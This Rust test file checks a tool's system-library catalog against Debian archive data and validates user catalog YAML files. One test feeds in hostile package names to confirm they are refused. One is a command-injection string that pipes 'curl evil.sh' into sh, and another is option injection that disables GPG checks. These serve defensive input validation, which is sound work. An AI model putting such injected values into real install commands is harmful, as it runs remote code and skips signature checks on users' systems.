//! The shipped system-library catalog against Debian's package archive, and user catalog
//! files.

mod common;

use basefit::model::OsFamily;
use basefit::native::Catalog;
use basefit::native::catalog::FactSource;

/// Checks that a user catalog file holding `text` is refused with an error containing `want`.
fn assert_refused_with(text: &str, want: &str) {
    let e = refused(text);
    assert!(e.contains(want), "wanted {want} in {e}");
}

/// The error a user catalog file named `site.yaml` holding `text` is refused with.
fn refused(text: &str) -> String {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("site.yaml");
    std::fs::write(&path, text).unwrap();
    Catalog::with_override(&path).unwrap_err().to_string()
}

#[test]
fn debian_entries_agree_with_the_archive_extract() {
    // Source: Debian's package archive, Debian 12 (bookworm), file lists from `dpkg -c` of the
    // -dev packages; produced by tests/data/debian-archive/make-extract.sh (see its README).
    let extract = std::fs::read_to_string("tests/data/debian-archive/extract.tsv").unwrap();
    let catalog = Catalog::builtin();
    assert!(
        catalog.libraries.len() >= 40,
        "{} libraries",
        catalog.libraries.len()
    );
    assert!(catalog.debian_release.contains("bookworm"));
    let mut checked = 0;
    for line in extract.lines().skip(1) {
        let cols: Vec<&str> = line.split('\t').collect();
        let [kind, name, package] = cols[..] else {
            panic!("bad row {line}")
        };
        let lib = match kind {
            "header" => catalog.by_header(name),
            "pkgconfig" => catalog.by_pkg_config(name),
            "link" => catalog.by_link(name),
            // Runtime packages: debian_runtime_lists_cover_every_link_name; shared objects:
            // tests/log_to_catalog.rs.
            "runtime" | "shared" => continue,
            other => panic!("unknown kind {other}"),
        }
        .unwrap_or_else(|| {
            panic!("{kind} {name} is in the archive extract but not in the catalog")
        });
        let deb = &lib.families[&OsFamily::Debian];
        assert_eq!(
            deb.dev.as_deref(),
            Some(package),
            "{kind} {name}: catalog says {:?}, archive says {package}",
            deb.dev
        );
        checked += 1;
    }
    assert!(checked > 100, "only {checked} rows");
    // Every verified Debian fact of the catalog appears in the extract.
    for lib in &catalog.libraries {
        let deb = &lib.families[&OsFamily::Debian];
        if deb.source != FactSource::Verified {
            continue;
        }
        let dev = deb.dev.as_deref().unwrap();
        for h in &lib.headers {
            assert!(
                extract.contains(&format!("header\t{h}\t{dev}\n")),
                "{}: header {h} not in the extract",
                lib.id
            );
        }
        for p in &lib.pkg_config {
            assert!(
                extract.contains(&format!("pkgconfig\t{p}\t{dev}\n")),
                "{}: pkg-config {p} not in the extract",
                lib.id
            );
        }
    }
}

/// A prebuilt build linked against a library needs, at run time, every shared object the
/// library's link names stand for, and Debian often ships those in several packages (pango's
/// `libpangocairo-1.0.so.0` is in `libpangocairo-1.0-0`, not `libpango-1.0-0`; nettle's
/// `libhogweed.so.6` in `libhogweed6`). So each verified Debian `runtime` list must name, for
/// every link name of its library, the package that ships the shared object the dev package's
/// `lib<name>.so` resolves to, and nothing else.
#[test]
fn debian_runtime_lists_cover_every_link_name() {
    // Source: Debian's package archive, Debian 12 (bookworm), the release the catalog targets
    // (`debian_release`): the `runtime` rows of the extract, from `dpkg -c` of the runtime
    // packages, written by tests/data/debian-archive/make-extract.sh (see its README).
    let extract = std::fs::read_to_string("tests/data/debian-archive/extract.tsv").unwrap();
    let mut shipped: std::collections::BTreeMap<&str, Vec<&str>> = Default::default();
    for line in extract.lines().skip(1) {
        let cols: Vec<&str> = line.split('\t').collect();
        if let ["runtime", link, package] = cols[..] {
            shipped.entry(link).or_default().push(package);
        }
    }
    let catalog = Catalog::builtin();
    assert!(catalog.debian_release.contains("bookworm"));
    let mut checked = 0;
    for lib in &catalog.libraries {
        let deb = &lib.families[&OsFamily::Debian];
        if deb.source != FactSource::Verified {
            continue;
        }
        let mut needed = std::collections::BTreeSet::new();
        for link in &lib.link {
            let packages = shipped
                .get(link.as_str())
                .unwrap_or_else(|| panic!("{}: link {link} has no runtime row", lib.id));
            for p in packages {
                assert!(
                    deb.runtime.iter().any(|r| r == p),
                    "{}: lib{link}.so resolves to a file in {p}, which runtime {:?} leaves out",
                    lib.id,
                    deb.runtime
                );
                needed.insert(*p);
                checked += 1;
            }
        }
        for r in &deb.runtime {
            assert!(
                needed.contains(r.as_str()),
                "{}: runtime package {r} ships none of the link names {:?}",
                lib.id,
                lib.link
            );
        }
    }
    assert!(checked > 90, "only {checked} link names");
}

/// A prebuilt build of a library whose shared objects Debian ships in several packages is
/// predicted to install only where all of them are: an image with `libpango-1.0-0` alone
/// lacks `libpangocairo-1.0.so.0`, and the dynamic loader would refuse the build there.
#[test]
fn a_prebuilt_build_needs_every_runtime_package_of_its_library() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| common::write(dir.path(), name, text);
    let registry = write(
        "r.yaml",
        "packages:\n  - name: d\n    versions:\n      - {version: 1.0.0, builds: {source: false, prebuilt: [linux/glibc/x86_64]}, native: {libraries: [pangocairo]}}\n",
    );
    let images = write(
        "i.yaml",
        "images:\n  - {id: one, runtime: 3.0.0, family: debian, platform: linux/glibc/x86_64, packages: [libpango-1.0-0]}\n  - {id: all, runtime: 3.0.0, family: debian, platform: linux/glibc/x86_64, packages: [libpango-1.0-0, libpangocairo-1.0-0, libpangoft2-1.0-0]}\n",
    );
    let priorities = write("p.yaml", "priorities: [d]\n");
    let explain = |image: &str| {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_basefit"))
            .args(["explain", "d", image, "--quiet", "--registry"])
            .arg(&registry)
            .arg("--images")
            .arg(&images)
            .arg("--priorities")
            .arg(&priorities)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let one = explain("one");
    assert!(
        one.starts_with("d on one: fails (1.0.0), missing-system-library")
            && one.contains("missing system packages: libpangocairo-1.0-0 libpangoft2-1.0-0"),
        "{one}"
    );
    let all = explain("all");
    assert!(all.starts_with("d on all: installs (1.0.0)"), "{all}");
}

/// `runtime` takes one package or a list; a list names each package at its own line when it
/// is wrong, and an empty list or a package listed twice is refused.
#[test]
fn a_runtime_list_is_read_and_checked() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("site.yaml");
    std::fs::write(
        &path,
        "libraries:\n  - id: quokka-codec\n    families:\n      debian: {dev: libquokka-dev, runtime: [libquokka1, libquokka-extra1]}\n      alpine: {runtime: quokka-libs}\n",
    )
    .unwrap();
    let c = Catalog::with_override(&path).unwrap();
    let lib = c.get("quokka-codec").unwrap();
    assert_eq!(
        lib.families[&OsFamily::Debian].runtime,
        ["libquokka1", "libquokka-extra1"]
    );
    assert_eq!(lib.families[&OsFamily::Alpine].runtime, ["quokka-libs"]);
    for (runtime, want) in [
        ("[libquokka1,\n          \"bad name\"]", "site.yaml:5:"),
        ("[]", "site.yaml:4:"),
        ("[libquokka1, libquokka1]", "site.yaml:4:"),
    ] {
        let e = refused(&format!(
            "libraries:\n  - id: quokka-codec\n    families:\n      debian: {{dev: libquokka-dev, runtime: {runtime}}}\n"
        ));
        assert!(
            e.contains(want) && e.contains("`runtime`"),
            "{runtime}: {e}"
        );
    }
}

#[test]
fn user_catalog_overrides_and_extends() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("site-catalog.yaml");
    std::fs::write(
        &path,
        "native_helpers: [cbridge-build]\nlibraries:\n  - id: libxml2\n    headers: [libxml/parser.h]\n    link: [xml2]\n    families:\n      debian: {dev: libxml2-dev-site, runtime: libxml2, source: memory}\n  - id: quokka-codec\n    aliases: [quokkacodec]\n    headers: [quokka/codec.h]\n    link: [quokkacodec]\n    families:\n      alpine: {dev: quokka-codec-dev}\n",
    )
    .unwrap();
    let c = Catalog::with_override(&path).unwrap();
    assert_eq!(
        c.get("libxml2").unwrap().families[&OsFamily::Debian]
            .dev
            .as_deref(),
        Some("libxml2-dev-site")
    );
    assert_eq!(c.by_header("quokka/codec.h").unwrap().id, "quokka-codec");
    assert_eq!(c.by_link("quokkacodec").unwrap().id, "quokka-codec");
    assert!(c.native_helpers.contains("cbridge-build"));
    // Entries not named in the user file stay as shipped.
    assert_eq!(
        c.by_header("png.h").unwrap().id,
        Catalog::builtin().by_header("png.h").unwrap().id
    );
}

#[test]
fn malformed_catalog_gives_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("bad.yaml");
    std::fs::write(&path, "libraries:\n  - id: zlib\n    headerz: [zlib.h]\n").unwrap();
    let e = Catalog::with_override(&path).unwrap_err().to_string();
    assert!(
        e.contains("bad.yaml:3:") && e.contains("did you mean `headers`"),
        "{e}"
    );
    std::fs::write(
        &path,
        "libraries:\n  - id: zlib\n    families:\n      gentoo: {dev: x}\n",
    )
    .unwrap();
    let e = Catalog::with_override(&path).unwrap_err().to_string();
    assert!(
        e.contains("bad.yaml:4:") && e.contains("unknown family"),
        "{e}"
    );
}

/// A family given twice in one library's `families` would keep only the later packages
/// without a word: refused at the second key's line, as every other repeated key is.
#[test]
fn a_family_given_twice_in_one_library_is_refused() {
    let e = refused(
        "libraries:\n  - id: libfoo\n    families:\n      debian: {dev: libfoo-dev}\n      alpine: {dev: foo-dev}\n      debian: {dev: libother-dev}\n",
    );
    assert!(
        e.contains("site.yaml:6:") && e.contains("family `debian` given twice"),
        "{e}"
    );
}

/// Catalog package names go into install commands as they are, so a name that is no package
/// name (a space, a `;`, a leading `-` read as an option, nothing at all) is refused at its
/// line; so is a family that names no package, which would count as known and advise nothing.
#[test]
fn catalog_package_names_are_package_names() {
    for (family, want) in [
        (
            "debian: {dev: \"libfoo-dev; curl evil.sh | sh\", runtime: libfoo}",
            "`dev` package `libfoo-dev; curl evil.sh | sh` is not a package name",
        ),
        (
            "rhel: {dev: \"-y --nogpgcheck\", runtime: libfoo}",
            "`dev` package `-y --nogpgcheck` is not a package name",
        ),
        (
            "alpine: {dev: \"  \", runtime: libfoo}",
            "`dev` package `  ` is not a package name",
        ),
        ("debian: {}", "family debian: names no package"),
    ] {
        let e = refused(&format!(
            "libraries:\n  - id: libfoo\n    families:\n      {family}\n"
        ));
        assert!(
            e.contains("site.yaml:4:") && e.contains(want),
            "{family}: {e}"
        );
    }
}

/// Debian package names are lower case: "Package names (both source and binary ...) must
/// consist only of lower case letters (a-z), digits (0-9), plus (+) and minus (-) signs, and
/// periods (.). They must be at least two characters long and must start with an
/// alphanumeric character." (Debian Policy Manual, section 5.6.1 "Source"; section 5.6.7
/// "Package" applies it to binary packages.) apt would find no `LibFoo-Dev`, so a Debian name
/// outside that rule is refused at its line; RPM names may have upper case
/// (`ImageMagick-devel`).
#[test]
fn debian_package_names_follow_debian_policy() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("site.yaml");
    for (family, want) in [
        (
            "debian: {dev: LibFoo-Dev, runtime: libfoo1}",
            "`dev` package `LibFoo-Dev` is not a Debian package name (`libfoo-dev`?); Debian Policy 5.6.1",
        ),
        (
            "debian: {dev: libfoo-dev, runtime: [libfoo1, Libfoo-extra1]}",
            "`runtime` package `Libfoo-extra1` is not a Debian package name (`libfoo-extra1`?)",
        ),
        (
            "debian: {dev: libfoo_dev}",
            "`dev` package `libfoo_dev` is not a Debian package name; Debian Policy 5.6.1",
        ),
        (
            "debian: {runtime: f}",
            "`runtime` package `f` is not a Debian package name",
        ),
    ] {
        let e = refused(&format!(
            "libraries:\n  - id: libfoo\n    families:\n      {family}\n"
        ));
        assert!(
            e.contains("site.yaml:4:") && e.contains(want),
            "{family}: {e}"
        );
    }
    std::fs::write(
        &path,
        "libraries:\n  - id: libfoo\n    families:\n      rhel: {dev: ImageMagick-devel, runtime: ImageMagick-libs}\n      alpine: {dev: foo_dev}\n",
    )
    .unwrap();
    Catalog::with_override(&path).unwrap();
}

/// Aliases are matched against the words of package names and summaries: an empty one, or one
/// with no letter (`1`, `2.0`, which would take a version number for the library), is refused
/// at its line, and so is an empty header, link name or pkg-config module (an empty header is
/// a suffix of every path).
#[test]
fn empty_and_numeric_aliases_and_empty_lookup_keys_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("site.yaml");
    for (field, want) in [
        ("aliases: [quokka, \"\"]", "alias `` has no letter"),
        ("aliases: [1, 2]", "alias `1` has no letter"),
        ("aliases: [\"2.0\"]", "alias `2.0` has no letter"),
        ("aliases: \" \"", "alias ` ` has no letter"),
        ("headers: [quokka.h, \"\"]", "`headers` has an empty entry"),
        ("link: [\"  \"]", "`link` has an empty entry"),
        ("pkg_config: [\"\"]", "`pkg_config` has an empty entry"),
    ] {
        let e = refused(&format!(
            "libraries:\n  - id: quokka-codec\n    {field}\n    families:\n      debian: {{dev: libquokka-dev}}\n"
        ));
        assert!(
            e.contains("site.yaml:3:") && e.contains(want),
            "{field}: {e}"
        );
    }
    // A name with digits and letters is a name.
    std::fs::write(
        &path,
        "libraries:\n  - id: quokka-codec\n    aliases: [quokka2, libquokka-1.0]\n",
    )
    .unwrap();
    let c = Catalog::with_override(&path).unwrap();
    assert_eq!(c.by_word("quokka2").unwrap().id, "quokka-codec");
}

/// A family that names only the runtime package leaves a source build's need unmet: with the
/// toolchain present the cell stays at risk, not "installs" as if nothing were missing.
#[test]
fn a_source_build_needs_the_development_package_the_catalog_names() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| common::write(dir.path(), name, text);
    let registry = write(
        "r.yaml",
        "packages:\n  - name: d\n    versions:\n      - {version: 1.0.0, native: {libraries: [quokka-codec]}}\n",
    );
    let images = write(
        "i.yaml",
        "images:\n  - {id: a1, runtime: 3.0.0, family: alpine, platform: linux/musl/x86_64, toolchain: true, packages: [build-base]}\n",
    );
    let priorities = write("p.yaml", "priorities: [d]\n");
    let catalog = write(
        "c.yaml",
        "libraries:\n  - id: quokka-codec\n    families:\n      alpine: {runtime: quokka-codec}\n",
    );
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_basefit"))
        .args(["explain", "d", "a1", "--quiet", "--registry"])
        .arg(&registry)
        .arg("--images")
        .arg(&images)
        .arg("--priorities")
        .arg(&priorities)
        .arg("--catalog")
        .arg(&catalog)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.starts_with("d on a1: at-risk (1.0.0)")
            && stdout.contains(
                "needs libraries the catalog has no package for on this image: quokka-codec"
            ),
        "{stdout}"
    );
}

/// A header two libraries claim would be looked up as one of them only, silently: a new
/// library claiming a shipped one's header is refused, naming both, at the line of the
/// clashing value (as every problem with one field's value is), not the entry's; replacing
/// the shipped entry by its id is the way to change it.
#[test]
fn a_header_two_libraries_claim_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("site.yaml");
    let e = refused(
        "libraries:\n  - id: quokka-codec\n    headers: [quokka/codec.h]\n  - id: my-zlib\n    headers:\n      - my-zlib.h\n      - zlib.h\n    families:\n      debian: {dev: my-zlib-dev}\n",
    );
    assert!(
        e.contains("site.yaml:7:")
            && e.contains("library `my-zlib`: header `zlib.h` is also library `zlib`'s"),
        "{e}"
    );
    // Names and aliases are looked up in lower case; the message shows them as written.
    let e = refused(
        "libraries:\n  - id: my-z\n    aliases: [LibZ]\n    families:\n      debian: {dev: my-z-dev}\n",
    );
    assert!(
        e.contains("site.yaml:3:")
            && e.contains("library `my-z`: name or alias `LibZ` is also library `zlib`'s"),
        "{e}"
    );
    // An id is a name too: its clash is at the `id` line, which is also the entry's.
    let e = refused(
        "libraries:\n  - summary: another zlib\n    id: libz\n    families:\n      debian: {dev: my-z-dev}\n",
    );
    assert!(
        e.contains("site.yaml:3:")
            && e.contains("library `libz`: name or alias `libz` is also library `zlib`'s"),
        "{e}"
    );
    std::fs::write(
        &path,
        "libraries:\n  - id: zlib\n    headers: [zlib.h]\n    families:\n      debian: {dev: my-zlib-dev}\n",
    )
    .unwrap();
    let c = Catalog::with_override(&path).unwrap();
    assert_eq!(
        c.by_header("zlib.h").unwrap().families[&OsFamily::Debian]
            .dev
            .as_deref(),
        Some("my-zlib-dev")
    );
}

/// Every package a verified Debian entry lists as standing in for its `dev` package does so
/// in the archive: one that pulls it in depends on it outright, and another build of it ships
/// every header, link name and pkg-config module the catalog lists for the library.
#[test]
fn debian_stand_ins_for_the_dev_package_agree_with_the_archive() {
    // Source: Debian's package archive, Debian 12 (bookworm): `apt-cache show` and `dpkg -c`
    // of the downloaded packages, written by tests/data/debian-archive/make-alternatives.sh.
    let rows = std::fs::read_to_string("tests/data/debian-archive/alternatives.tsv").unwrap();
    let rows: Vec<(&str, &str, &str)> = rows
        .lines()
        .skip(1)
        .map(|l| {
            let c: Vec<&str> = l.split('\t').collect();
            (c[0], c[1], c[2])
        })
        .collect();
    let catalog = Catalog::builtin();
    let mut checked = 0;
    for lib in &catalog.libraries {
        let deb = &lib.families[&OsFamily::Debian];
        if deb.source != FactSource::Verified {
            continue;
        }
        let evidence = |package: &str| {
            rows.iter()
                .find(|(p, d, _)| *p == package && Some(*d) == deb.dev.as_deref())
                .map(|r| r.2)
                .unwrap_or_else(|| panic!("{}: {package} has no archive row", lib.id))
        };
        for package in &deb.pulled_in_by {
            assert_eq!(evidence(package), "depends", "{}: {package}", lib.id);
            checked += 1;
        }
        for package in &deb.alternatives {
            let shown = evidence(package)
                .strip_prefix("ships ")
                .unwrap_or_else(|| panic!("{}: {package} ships nothing", lib.id));
            let shown: Vec<&str> = shown.split(' ').collect();
            let wanted = (lib.headers.iter().map(|h| format!("header:{h}")))
                .chain(lib.link.iter().map(|l| format!("link:{l}")))
                .chain(lib.pkg_config.iter().map(|m| format!("pkgconfig:{m}")));
            for w in wanted {
                assert!(
                    shown.contains(&w.as_str()),
                    "{}: {package} lacks {w}",
                    lib.id
                );
            }
            checked += 1;
        }
    }
    assert!(checked >= 4, "only {checked}");
}

/// `alternatives` and `pulled_in_by` stand in for `dev`: without a `dev`, or naming `dev`
/// itself or a package twice (in either list), they are refused at the line.
#[test]
fn stand_ins_need_a_dev_package_and_distinct_names() {
    for (family, want) in [
        (
            "{runtime: libquokka1, alternatives: [libquokka-alt-dev]}",
            "which is not given",
        ),
        (
            "{dev: libquokka-dev, pulled_in_by: [libquokka-dev]}",
            "is `dev` itself",
        ),
        (
            "{dev: libquokka-dev, alternatives: [libq-dev, libq-dev]}",
            "listed twice",
        ),
        (
            "{dev: libquokka-dev, alternatives: [libq-dev], pulled_in_by: [libq-dev]}",
            "listed twice",
        ),
        (
            "{dev: libquokka-dev, alternatives: [Libq-Dev]}",
            "Debian Policy",
        ),
    ] {
        let e = refused(&format!(
            "libraries:\n  - id: quokka-codec\n    families:\n      debian: {family}\n"
        ));
        assert!(
            e.contains("site.yaml:4:") && e.contains(want),
            "{family}: {e}"
        );
    }
}

/// Which compilers a family's packages carry: RHEL's toolchain is `gcc`, `gcc-c++` and `make`
/// (from memory, as in `toolchain_packages`), so `gcc` and `gcc-c++` without `make` carry no
/// compiler a build can use; Alpine's C toolchain needs `musl-dev` for libc's headers and
/// start files (common practice, no source; Alpine's `build-base` depends on it, from memory),
/// so `gcc` and `make` alone are no C toolchain; Debian's `g++` brings `gcc` and `libc6-dev`
/// (`apt-cache depends g++` on Debian 12) but not `make`, so `g++` alone gives neither C nor
/// C++. Guards `make` in RHEL's toolchain, `musl-dev` in Alpine's C toolchain and that a C++
/// compiler counts only beside a C toolchain (mutation testing: each survived before).
#[test]
fn compilers_carried_need_every_toolchain_package() {
    use basefit::native::{c_toolchain_packages, compilers_carried, toolchain_packages};
    let set = |names: &[&str]| -> std::collections::BTreeSet<String> {
        names.iter().map(|n| n.to_string()).collect()
    };
    assert_eq!(
        toolchain_packages(OsFamily::Rhel),
        &["gcc", "gcc-c++", "make"]
    );
    assert_eq!(
        compilers_carried(OsFamily::Rhel, &set(&["gcc", "gcc-c++"])),
        (false, false)
    );
    assert_eq!(
        compilers_carried(OsFamily::Rhel, &set(&["gcc", "gcc-c++", "make"])),
        (true, true)
    );
    assert_eq!(
        c_toolchain_packages(OsFamily::Alpine),
        &["gcc", "make", "musl-dev"]
    );
    assert_eq!(
        compilers_carried(OsFamily::Alpine, &set(&["gcc", "make"])),
        (false, false)
    );
    assert_eq!(
        compilers_carried(OsFamily::Alpine, &set(&["gcc", "make", "musl-dev"])),
        (true, false)
    );
    assert_eq!(
        compilers_carried(OsFamily::Debian, &set(&["g++"])),
        (false, false)
    );
    assert_eq!(
        compilers_carried(OsFamily::Debian, &set(&["g++", "make"])),
        (true, true)
    );
}

/// A declared library name is matched by id or alias whatever its case (README: looked up
/// "by id or alias"; names and aliases are compared lower-cased): `LibXML2` and `ZLIB` are the
/// catalog's libxml2 and zlib, while pkg-config modules and link names stay exact. Guards the
/// lower-casing in `by_name` (mutation testing: without it both were unknown libraries).
#[test]
fn declared_names_match_ids_in_any_case() {
    let catalog = Catalog::builtin();
    let id = |name: &str| catalog.by_declared_name(name).map(|l| l.id.clone());
    assert_eq!(id("LibXML2").as_deref(), Some("libxml2"));
    assert_eq!(id("ZLIB").as_deref(), Some("zlib"));
    assert_eq!(id("libxml-2.0").as_deref(), Some("libxml2"));
    assert_eq!(id("kookaburra-nonesuch"), None);
}

/// README's example of a catalog file reads as the catalog it describes, so the only place
/// that shows the keys stays true.
#[test]
fn the_readme_catalog_example_reads() {
    let readme = std::fs::read_to_string("README.md").unwrap();
    let start = readme
        .find("native_helpers: [quillforge-build]")
        .expect("the example in README, \"System-library catalog\"");
    let end = start + readme[start..].find("```").unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("site.yaml");
    std::fs::write(&path, &readme[start..end]).unwrap();
    let catalog = Catalog::with_override(&path).unwrap();
    let lib = catalog.get("quokka-codec").expect("the example's library");
    assert_eq!(catalog.by_link("quokkacodec").map(|l| &l.id), Some(&lib.id));
    assert_eq!(
        catalog.by_pkg_config("quokka-codec").map(|l| &l.id),
        Some(&lib.id)
    );
    assert_eq!(
        catalog.by_header("quokka/codec.h").map(|l| &l.id),
        Some(&lib.id)
    );
    assert_eq!(lib.families[&OsFamily::Alpine].runtime, ["quokka-libs"]);
    assert_eq!(
        lib.families[&OsFamily::Debian].dev.as_deref(),
        Some("libquokka-dev")
    );
}

/// A catalog file's problems come in one report, as the YAML readers give them: a repeated
/// id and a header another library claims were told one per run, and a family's problem
/// names its library (it said "library `families`", read as a library of that name). From an
/// end-to-end review.
#[test]
fn a_catalog_files_problems_come_together_and_name_their_library() {
    let e = refused(
        "libraries:
  - id: quokka-codec
    headers: [quokka/codec.h]
  - id: quokka-codec
    headers: [quokka/other.h]
  - id: numbat-gfx
    headers: [zlib.h]
",
    );
    assert!(
        e.contains("site.yaml:4: library `quokka-codec` is listed twice"),
        "{e}"
    );
    assert!(
        e.contains("site.yaml:7: library `numbat-gfx`: header `zlib.h` is also library `zlib`'s"),
        "{e}"
    );
    assert_refused_with(
        "libraries:\n  - id: numbat-gfx\n    families:\n      arch: {dev: numbat-dev}\n",
        "library `numbat-gfx`: `families`: unknown family `arch`",
    );
    assert_refused_with(
        "libraries:\n  - id: numbat-gfx\n    families:\n      debian: {dev: numbat-dev, source: guessed}\n",
        "library `numbat-gfx`, family debian: `source`: expected verified or memory",
    );
}

/// A catalog's `native_helpers` are package names, refused as a registry's would be, and its
/// `debian_release` is the release alone, since reports print it after the word Debian
/// ("Debian Debian 13 (trixie)"). From an end-to-end review.
#[test]
fn helper_names_and_the_debian_release_label_are_checked() {
    let e = refused("native_helpers: [\"bad name\"]\nlibraries: []\n");
    assert!(
        e.contains("site.yaml:1:")
            && e.contains("`native_helpers` name")
            && e.contains("white space"),
        "{e}"
    );
    let e = refused("debian_release: \"Debian 13 (trixie)\"\nlibraries: []\n");
    assert!(
        e.contains("site.yaml:1:") && e.contains("give the release alone"),
        "{e}"
    );
}

/// A field's problem names its library and family: "library `cxx`: expected true or false"
/// read as a library named `cxx` (from an end-to-end review).
#[test]
fn a_fields_problem_names_its_library() {
    assert_refused_with(
        "libraries:\n  - id: numbat-gfx\n    cxx: maybe\n",
        "site.yaml:3: library `numbat-gfx`, `cxx`: expected true or false",
    );
    assert_refused_with(
        "libraries:\n  - id: numbat-gfx\n    families:\n      alpine: {dev: [numbat-dev]}\n",
        "site.yaml:4: library `numbat-gfx`, family alpine, `dev`",
    );
}

/// `check --catalog` says how many library entries the catalog file gave, as for every other
/// input: alone it printed an empty table and "no problems found", which did not show that the
/// file was read at all.
#[test]
fn check_counts_the_catalog_file_s_libraries() {
    let dir = tempfile::tempdir().unwrap();
    let file = common::write(
        dir.path(),
        "site.yaml",
        "libraries:\n  - id: frobnitz\n    headers: [frob.h]\n    families:\n      debian: {dev: libfrob-dev, runtime: [libfrob1]}\n  - id: zlib\n    headers: [zlib.h]\n    link: [z]\n    pkg_config: [zlib]\n    families:\n      debian: {dev: zlib1g-dev, runtime: [zlib1g]}\n",
    );
    let (code, out, err) =
        common::run_basefit(["check", "--quiet", "--catalog", file.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.lines().any(|l| l.split_whitespace().collect::<Vec<_>>()
            == ["catalog-file", "libraries", "2", "2", "0"]),
        "{out}"
    );
}

/// `Catalog::knows` with no recorded build (a need from a matrix written before builds were
/// recorded) asks for both ways, as its doc says: a library whose family names only a `dev`
/// package is known for source builds, not for prebuilt ones, and so not when the build is
/// unknown. Guards the "both" (mutation testing: "either" passed it, unnoticed, since every
/// need basefit plans today records its build).
#[test]
fn a_need_without_a_recorded_build_is_known_only_both_ways() {
    use basefit::solve::BuildKind;
    let mut catalog = Catalog::builtin();
    catalog
        .apply(
            "site.yaml",
            "libraries:\n  - id: quollcodec\n    headers: [quollcodec.h]\n    families:\n      debian: {dev: libquollcodec-dev}\n",
        )
        .unwrap();
    let debian = OsFamily::Debian;
    assert!(catalog.knows("quollcodec", debian, Some(BuildKind::Source)));
    assert!(!catalog.knows("quollcodec", debian, Some(BuildKind::Prebuilt)));
    assert!(!catalog.knows("quollcodec", debian, None));
    assert!(catalog.knows("zlib", debian, None));
}

/// Several problems inside one library entry come in one report, each at its line: a field's
/// and each family's are read apart (they came one per run, so fixing a catalog file took as
/// many runs as it had problems).
#[test]
fn the_problems_inside_one_library_entry_come_together() {
    let e = refused(
        "libraries:
  - id: quokka-codec
    headers: [\"\"]
    aliases: [\"2.0\"]
    families:
      arch: {dev: quokka-dev}
      debian: {dev: Quokka-Dev}
      alpine: {source: guessed, dev: quokka-dev}
",
    );
    for want in [
        "site.yaml:3: library `quokka-codec`: `headers` has an empty entry",
        "site.yaml:4: library `quokka-codec`: alias `2.0` has no letter",
        "site.yaml:6:",
        "unknown family `arch`",
        "site.yaml:7: library `quokka-codec`, family debian: `dev` package `Quokka-Dev` is not a Debian package name",
        "library `quokka-codec`, family alpine: `source`: expected verified or memory",
    ] {
        assert!(e.contains(want), "wanted {want} in {e}");
    }
}

/// A catalog file lists at most 20 problems (`SchemaErrors::CAP`, DEVELOPERS "Adding an input
/// format": "collect up to 20 per file before failing"), then says there are more, however the
/// problems fall into library entries. From a review of the change that brought each entry's
/// problems together: 21 entries with two problems each listed 40, followed by "there are
/// more errors than these first 20".
#[test]
fn a_catalog_file_lists_at_most_twenty_problems() {
    let mut text = String::from("libraries:\n");
    for i in 0..21 {
        text.push_str(&format!(
            "  - id: quokkalib{i}\n    headers: [\"\"]\n    link: [\"\"]\n"
        ));
    }
    let e = refused(&text);
    let problems = e
        .lines()
        .filter(|l| l.contains("site.yaml:") && !l.contains("there are more errors"))
        .count();
    assert_eq!(problems, 20, "{e}");
    assert!(
        e.lines()
            .last()
            .is_some_and(|l| l
                .ends_with("there are more errors than these first 20: fix these and run again")),
        "{e}"
    );
}

/// Each problem of a library's `aliases` is reported once: an `aliases` that is no list, and
/// an empty alias (which has no letter). From a review of the change that brought an entry's
/// problems together: both were read twice, and each printed twice.
#[test]
fn each_alias_problem_is_reported_once() {
    for (aliases, want) in [
        ("{a: b}", "`aliases`: expected a list, found a mapping"),
        ("[quokka, \"\"]", "alias `` has no letter"),
    ] {
        let e = refused(&format!(
            "libraries:\n  - id: quokka-codec\n    aliases: {aliases}\n"
        ));
        let lines: Vec<&str> = e.lines().collect();
        assert_eq!(lines.len(), 1, "{aliases}: {e}");
        assert!(lines[0].contains(want), "{aliases}: {e}");
    }
}
